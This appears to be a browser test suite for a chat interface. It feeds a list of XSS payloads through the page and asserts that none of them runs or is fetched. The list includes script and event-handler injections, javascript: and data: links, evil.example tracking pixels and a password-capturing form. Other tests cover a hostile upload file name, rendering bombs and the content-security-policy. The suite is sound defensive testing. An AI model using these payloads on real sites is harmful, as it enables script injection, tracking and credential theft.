"""What a model or a file might say to a browser: nothing of it runs or is fetched."""

from __future__ import annotations

import time
from pathlib import Path

import httpx2
from playwright.sync_api import FilePayload, Page, expect

from server.routes.page import POLICY, read_assets
from tests.browser.conftest import Answers, ask, heard
from tests.live import Live

EVIL = "window.hacked = 1"
HOSTILE = [
    f"<script>{EVIL}</script>",
    f"<img src=x onerror='{EVIL}'>",
    f"<svg onload='{EVIL}'><circle/></svg>",
    f"<svg><script>{EVIL}</script></svg>",
    f"<iframe srcdoc='<script>parent.{EVIL}</script>'></iframe>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body { background: url(https://evil.example/x) }</style>",
    f"<a href='javascript:{EVIL}'>click</a>",
    f"[click](javascript:{EVIL})",
    f"[click](JaVaScRiPt:{EVIL})",
    f"[click](java\nscript:{EVIL})",
    f"[click](&#106;avascript:{EVIL})",
    f"[click](data:text/html,<script>{EVIL}</script>)",
    f"[click](vbscript:{EVIL})",
    "[click](https://good.example@evil.example/)",
    "![tracked](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    f"[![x](https://evil.example/x.png)](javascript:{EVIL})",
    f"`<script>{EVIL}</script>`",
    f"```html\n<script>{EVIL}</script>\n```",
    f"```\n</code></pre><script>{EVIL}</script>",
    f"| <script>{EVIL}</script> | b |\n|---|---|\n| <img src=x onerror={EVIL}> | c |",
    f"<|object_ref_start|><script>{EVIL}</script><|object_ref_end|><|box_start|>(1,1),(9,9)<|box_end|>",
    f"${{{EVIL}}} {{{{constructor.constructor('{EVIL}')()}}}}",
    "<!-- <script> --> <![CDATA[<script>]]>",
    "<div style='position:fixed;inset:0'>over all</div>",
    "[harmless](https://example.org/a_(b)?c=1#d)",
    "<form action=https://evil.example><input name=password></form>",
    "\u202egnp.exe\u202c \u200b\ufeff \x00 \ufdd00\ufdd1 \ufdd07\ufdd1",
]


def test_nothing_that_an_answer_says_runs_or_is_fetched(page: Page, answers: Answers) -> None:
    answers(*(f"before\n\n{text}\n\nafter" for text in HOSTILE), size=4)
    for count, text in enumerate(HOSTILE, start=1):
        ask(page, "Say it")
        said = heard(page, count)
        assert said.startswith("before") and "after" in said, text
    bodies = page.locator(".message.assistant .body")
    made = "script, iframe, style, link, meta, base, form, input, object, embed, img"
    assert bodies.locator(made).count() == 0
    links = bodies.locator("a").all()
    assert links  # the harmless one
    for link in links:
        href = str(link.get_attribute("href"))
        assert href.startswith(("https://", "http://", "mailto:")) and "@" not in href
        assert "noopener" in str(link.get_attribute("rel"))
    attributes = page.locator("main").evaluate(
        "e => [...e.querySelectorAll('*')].flatMap(x => x.getAttributeNames())"
    )
    assert not [name for name in attributes if name.startswith("on")]
    assert page.evaluate("window.hacked") is None


def test_what_is_no_markdown_stays_as_it_was_written(page: Page, answers: Answers) -> None:
    texts = ["<b>5 < 6 & 7 > 3</b>", "a * b * c_d_e", "2. is not one", "C:\\new [x] (y)", "~~~"]
    answers(*texts)
    for count, text in enumerate(texts[:4], start=1):
        ask(page, "Say it")
        assert heard(page, count).strip().endswith(text.split(" ", 1)[-1])


def test_a_hostile_file_name_is_a_name(page: Page, answers: Answers, tmp_path: Path) -> None:
    answers("seen")
    shapes = (Path(__file__).parent.parent.parent / "examples/images/star.png").read_bytes()
    name = "<img src=x onerror=hacked=1>.png"
    page.locator("#files").set_input_files(
        files=FilePayload(name=name, mimeType="image/png", buffer=shapes)
    )
    page.get_by_alt_text(name).wait_for()
    page.keyboard.press("Enter")
    heard(page)
    assert page.evaluate("window.hacked") is None
    expect(page.locator("img[src='x']")).to_have_count(0)


MUCH = {
    "long": "word " * 200_000,
    "quotes": "> " * 5_000 + "deep",
    "lists": "".join(f"{'  ' * i}- deep\n" for i in range(300)),
    "stars": "*" * 50_000,
    "ticks": "`" * 50_000,
    "brackets": "[" * 50_000,
    "bold": "**a " * 12_000,
    "table": "| a " * 3_000 + "\n" + "|---" * 3_000,
    "marks": "<|object_ref_start|>" * 5_000,
}


def test_no_answer_keeps_the_page_busy(page: Page, answers: Answers) -> None:
    answers(*MUCH.values(), size=4_096)
    for name in MUCH:
        page.get_by_role("button", name="New chat").click()
        began = time.monotonic()
        ask(page, "Much")
        heard(page)
        assert time.monotonic() - began < 15, name  # seconds, on a busy machine


def test_the_policy_lets_in_what_comes_from_here_alone(live: Live) -> None:
    answer = httpx2.get(f"{live.url}/", headers={"accept": "text/html"})
    assert answer.headers["content-security-policy"] == POLICY
    assert answer.headers["x-content-type-options"] == "nosniff"
    rules = dict(rule.split(" ", 1) for rule in POLICY.split("; "))
    assert rules["default-src"] == "'none'"
    assert rules["script-src"] == rules["style-src"] == rules["connect-src"] == "'self'"
    assert rules["require-trusted-types-for"] == "'script'"
    assert "unsafe" not in POLICY and "http" not in POLICY and "*" not in POLICY


FORBIDDEN = (
    *("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "DOMParser", "eval("),
    *("new Function", "http://", " style=", "onclick=", "onload=", "@import"),
)


def test_no_file_of_the_page_reads_text_as_code_or_names_another_host() -> None:
    for path, asset in read_assets().items():
        text = asset.body.decode().replace("http://www.w3.org/2000/svg", "")
        for forbidden in (
            "innerHTML",
            "outerHTML",
            "insertAdjacentHTML",
            "document.write",
            "eval(",
        ):
            assert forbidden not in text, path
        for forbidden in ("new Function", "DOMParser", "http://", " style=", "onclick=", "@import"):
            assert forbidden not in text, path


def test_files_are_asked_for_anew_but_not_sent_twice(live: Live) -> None:
    with httpx2.Client(base_url=live.url) as client:
        for path, asset in read_assets().items():
            first = client.get(path)
            assert first.content == asset.body and first.headers["cache-control"] == "no-cache"
            again = client.get(path, headers={"if-none-match": first.headers["etag"]})
            assert (again.status_code, again.content) == (304, b"")
            head = client.head(path)
            assert (head.status_code, head.content) == (200, b"")
